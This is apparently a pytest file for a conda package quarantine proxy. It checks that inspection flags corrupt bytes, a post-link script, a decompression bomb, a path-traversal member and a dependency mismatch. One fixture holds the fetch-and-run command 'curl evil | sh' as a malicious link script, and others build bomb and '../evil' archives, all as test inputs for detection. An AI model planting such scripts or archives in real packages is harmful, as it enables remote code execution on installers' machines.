"""Packages of a channel in quarantine: held to their record's hash, inspected, named where they would run something."""

import json

import pytest

from sekisho.sources import Source
from tests.channels import Channel, FakeChannels, make_package
from tests.conda_archives import member
from tests.conda_archives import package as packed
from tests.fake_upstream import run_asgi
from tests.integration.proxy.house import House

TOOL = make_package("tool", depends=("library >=1",))
OLD = make_package("library", "1.2", subdir="linux-64", ending=".tar.bz2", files={"lib/l.so": b"\x7fELF"})
SLY = make_package("sly", files={"bin/.sly-post-link.sh": b"curl evil | sh\n"})


@pytest.fixture
def fake():
    return FakeChannels(channels={"main": Channel((TOOL, OLD, SLY))})


@pytest.fixture
def house(tmp_path, fake):
    with run_asgi(fake) as url:
        made = House(tmp_path, upstream=url)
        made.inside = (Source(id="main", kind="conda", url=f"{url}/main"),)
        made.settle()
        yield made


def inspected(house, client, *artifacts):
    body = {"artifacts": [artifact.plain() for artifact in artifacts]}
    answer = client.post("/quarantine", json=body, auth=house.basic())
    assert answer.status_code == 200, answer.text
    return {row["sha256"]: row for row in map(json.loads, answer.text.splitlines())}


def test_packages_of_both_formats_become_facts_and_a_link_script_is_named(house, fake):
    packages = (TOOL, OLD, SLY)
    with house.open() as client:
        rows = inspected(house, client, *(one.artifact(source="main") for one in packages))
        assert rows[TOOL.sha256]["facts"]["requires"] == ["library >=1"]
        assert "findings" not in rows[TOOL.sha256]["facts"]
        assert rows[OLD.sha256]["facts"]["native"] == ["lib/l.so"]
        assert rows[SLY.sha256]["facts"]["findings"] == [{"code": "link_script", "detail": "bin/.sly-post-link.sh"}]
        asked = len(fake.asked)
        again = inspected(house, client, *(one.artifact(source="main") for one in packages))
        assert all(row["cached"] for row in again.values())
        assert len(fake.asked) == asked
        for one in packages:
            assert client.get(f"/w/everyone/conda/main/{one.path}").status_code in {403, 404}


def test_bytes_that_are_not_those_of_the_record_are_none(house, fake):
    fake.lies[f"/main/{TOOL.path}"] = TOOL.data[:-1] + b"x"
    with house.open() as client:
        row = inspected(house, client, TOOL.artifact(source="main"))[TOOL.sha256]
        assert row["problem"]["code"] == "corrupt"
        assert row["problem"]["where"] == TOOL.path


def test_a_bomb_and_a_traversal_are_findings_and_the_inspectors_go_on(house, fake):
    """80 MB of zeros in a few kB, a member that climbs, and one that is no package; then an honest one."""
    bad = [TOOL.but(spoilt=made) for made in (
        packed([member("share/zeros", bytes(80 << 20))], stem=TOOL.stem), packed([member("../evil")], stem=TOOL.stem), b"nothing"
    )]  # fmt: skip
    with house.open() as client:
        for one in bad:
            fake.lies[f"/main/{one.path}"] = one.data
            row = inspected(house, client, one.artifact(source="main"))[one.sha256]
            assert [found["code"] for found in row["facts"]["findings"]] == ["archive_confusion"]
        del fake.lies[f"/main/{TOOL.path}"]
        assert "findings" not in inspected(house, client, TOOL.artifact(source="main"))[TOOL.sha256]["facts"]


def test_facts_are_of_a_file_and_of_what_its_channel_says(house):
    """The same bytes under another record are looked at again: what they are held to is another thing."""
    with house.open() as client:
        first = inspected(house, client, TOOL.artifact(source="main"))[TOOL.sha256]
        artifact = TOOL.artifact(source="main")
        record = json.loads(artifact.index["record"]) | {"depends": []}
        other = artifact.model_copy(update={"index": {"record": json.dumps(record)}})
        second = inspected(house, client, other)[TOOL.sha256]
        assert "findings" not in first["facts"]
        assert [one["code"] for one in second["facts"]["findings"]] == ["depends_mismatch"]
        assert not second["cached"]
